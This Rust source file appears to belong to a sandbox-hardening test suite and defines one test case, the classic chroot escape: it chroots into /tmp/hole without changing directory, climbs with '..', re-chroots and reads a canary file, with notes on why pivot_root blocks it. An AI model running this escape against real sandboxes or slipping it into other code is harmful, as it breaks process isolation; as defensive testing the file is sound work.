//! The classic way out of a chroot: a working directory that is outside of the root.

use std::fs;

use nix::unistd::{chdir, chroot};
use process::Step;

use crate::attack::attacker::{A_FILE, read_path};
use crate::attack::places::CANARY;
use crate::attack::target::Attack;

pub const ATTACK: Attack = Attack {
    name: "chroot",
    title: "climb out of the root directory",
    tries: "chroot into a directory below without going there, so that the working directory \
            is outside of the root, and climb up with `..`.",
    why: "chroot only moves where a lookup begins; `..` ends at the root only if one comes by \
          it. After pivot_root the host's files are not mounted any more, there is \
          nothing to climb to.",
    reference: "chroot(2), pivot_root(2)",
    stopped_by: 3,
    run: |target| Ok(target.attack::<&str>(&[], &[])?.has_read(target.secret, A_FILE)),
    inside: |_| {
        fs::create_dir_all("/tmp/hole").step(|| "create /tmp/hole")?;
        chroot("/tmp/hole").step(|| "chroot to /tmp/hole")?;
        for _ in 0..32 {
            chdir("..").step(|| "climb up")?;
        }
        chroot(".").step(|| "chroot to where the climb ended")?;
        read_path(CANARY)
    },
};
